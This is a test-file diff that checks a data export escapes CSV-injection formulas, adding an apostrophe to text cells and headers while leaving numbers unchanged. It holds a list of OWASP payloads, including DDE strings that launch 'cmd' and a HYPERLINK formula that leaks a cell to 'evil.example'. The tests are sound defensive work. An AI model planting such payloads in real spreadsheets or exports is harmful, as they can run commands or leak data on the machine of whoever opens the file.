@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import zipfile
 
@@ -86,3 +87,73 @@ def test_excel_export_holds_the_exact_values() -> None:
     assert "xl/worksheets/sheet1.xml" in names
     for text in ("城市", "amount_yuan", "北京", "上海", "10.50", "0.07"):
         assert f">{text}<" in strings
+
+
+# OWASP's CSV-injection payloads: formulas, DDE calls and hyperlinks, and the tab and carriage
+# return that some spreadsheets skip before reading a formula.
+OWASP_PAYLOADS = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
+    "+1+1",
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"!A0")A0',
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1,=2+2",
+]
+
+
+def spreadsheet_cells(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+def test_csv_export_neutralises_every_formula_payload() -> None:
+    frame = pl.DataFrame(
+        {
+            "ticket_id": OWASP_PAYLOADS,
+            "value": [p.lower() for p in OWASP_PAYLOADS],
+            "amount_cents": [-150] * len(OWASP_PAYLOADS),
+            "quantity": [-3] * len(OWASP_PAYLOADS),
+        }
+    )
+    header, *rows = spreadsheet_cells(csv_bytes(frame))
+    assert header == ["ticket_id", "value", "quantity", "amount_yuan"]
+    for payload, row in zip(OWASP_PAYLOADS, rows, strict=True):
+        # Text opens as text: the apostrophe, then the value exactly as it was.
+        assert row[0] == "'" + payload and row[1] == "'" + payload.lower()
+        # Numbers stay numbers: an integer column and exact yuan are written as they are.
+        assert row[2] == "-3" and row[3] == "-1.50"
+
+
+def test_csv_export_leaves_ordinary_text_and_plain_numbers_alone() -> None:
+    frame = pl.DataFrame(
+        {
+            "value": ["T00042", "北京", "a=b", " =1", "-5", "+12.50", "-", "@", None],
+            "kind": pl.Series(["x", "=y", "z", "x", "x", "x", "x", "x", "x"], dtype=pl.Categorical),
+        }
+    )
+    _, *rows = spreadsheet_cells(csv_bytes(frame))
+    assert [row[0] for row in rows] == [
+        "T00042", "北京", "a=b", " =1", "-5", "+12.50", "'-", "'@", "",
+    ]  # fmt: skip
+    assert [row[1] for row in rows][:2] == ["x", "'=y"]
+
+
+def test_csv_headers_are_neutralised_too() -> None:
+    header, _ = spreadsheet_cells(csv_bytes(pl.DataFrame({"=1+1": ["a"]})))
+    assert header == ["'=1+1"]
+
+
+def test_a_ticket_whose_id_is_a_formula_is_text_in_both_exports() -> None:
+    frame = pl.DataFrame({"ticket_id": ["=1+1"], "amount_cents": [100]})
+    _, row = spreadsheet_cells(csv_bytes(frame))
+    assert row == ["'=1+1", "1.00"]
+    with zipfile.ZipFile(io.BytesIO(excel_bytes(frame))) as book:
+        sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
+        strings = book.read("xl/sharedStrings.xml").decode("utf-8")
+    assert "<f>" not in sheet  # the Excel writer stores it as a string, never a formula
+    assert ">=1+1<" in strings
